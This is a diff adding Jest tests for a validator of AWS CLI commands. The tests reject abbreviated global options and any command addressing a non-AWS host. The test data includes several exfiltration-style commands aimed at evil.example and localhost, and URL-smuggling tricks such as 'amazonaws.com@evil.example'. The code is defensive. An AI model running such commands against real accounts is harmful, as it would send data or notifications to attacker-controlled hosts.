@@ -128,6 +128,56 @@ describe('what an AWS CLI command may not have', () => {
     expect(() => read(text)).toThrow(message);
   });
 
+  // The program takes one letter for the whole of an option.
+  const globals = [
+    ...['--endpoint-url', '--profile', '--debug', '--no-verify-ssl', '--ca-bundle', '--no-sign-request'],
+    ...['--cli-input-json', '--cli-input-yaml', '--cli-auto-prompt', '--with-decryption', '--region'],
+    ...['--output', '--query', '--color', '--version', '--no-paginate', '--cli-read-timeout'],
+    ...['--cli-connect-timeout', '--cli-binary-format', '--no-cli-pager', '--no-cli-auto-prompt'],
+  ];
+  it.each(globals)('no beginning of %s, with = and without, quoted and not', (option) => {
+    for (let length = 3; length < option.length; length += 1) {
+      const given = option.slice(0, length);
+      if (given.endsWith('-')) continue;
+      for (const form of [`${given}=x`, `${given} x`, `"${given}=x"`, `'${given}' 'x'`])
+        expect(() => read(`aws ssm get-parameter --name n ${form}`), form).toThrow(
+          new RegExp(
+            `^${given} (?:cannot be used|prints a secret)|^Write --[a-z-]+ in full instead of ${given}\\.`,
+          ),
+        );
+    }
+  });
+
+  it.each(['--output text', '--query "x[0]"', '--no-paginate', '--color off', '--cli-read-timeout 5'])(
+    '%s in full is taken',
+    (option) => expect(() => read(`aws ec2 describe-instances ${option}`)).not.toThrow(),
+  );
+
+  it.each([
+    'aws sqs receive-message --queue-u http://127.0.0.1:5501/',
+    'aws sqs receive-message --queue-u=http://127.0.0.1:5501/',
+    'aws sqs receive-message --queu "https://evil.example/1/q"',
+    'aws sqs receive-message --queue-url HTTP://evil.example/',
+    'aws sns publish --anything ftp://evil.example/x',
+    'aws sns subscribe --protocol https --notification-endpoint https://evil.example/',
+    `aws iot create-x --body '{"url":"https://evil.example"}'`,
+    'aws sqs receive-message --queue-url https://sqs.eu-west-1.amazonaws.com@evil.example/',
+    'aws sqs receive-message --queue-url https://amazonaws.com/',
+    'aws sqs receive-message --queue-url https://sqs.eu-west-1.amazonaws.com:99@evil.example/',
+    'aws sqs receive-message --queue-url "https://x.amazonaws.com/?to=https://evil.example"',
+    'aws s3 ls https://evil.example/x',
+  ])('%s calls nobody but AWS', (text) =>
+    expect(() => read(text)).toThrow('is an address that the program would call'),
+  );
+
+  it.each([
+    'aws sqs receive-message --queue-url https://sqs.eu-west-1.amazonaws.com/1/q',
+    'aws sqs receive-message --queue-url=https://sqs.cn-north-1.amazonaws.com.cn/1/q',
+    'aws cloudformation validate-template --template-url https://b.s3.eu-west-1.amazonaws.com/t.yaml',
+    'aws s3 cp s3://a/b s3://c/d',
+    'aws athena start-query-execution --result-configuration OutputLocation=s3://b/p',
+  ])('%s is of AWS', (text) => expect(() => read(text)).not.toThrow());
+
   it('the region is taken out of the command, and secrets out of what is shown', () => {
     const text =
       'aws rds modify-db-instance --region eu-west-1 --master-user-password hunter2 --db-instance-identifier d';
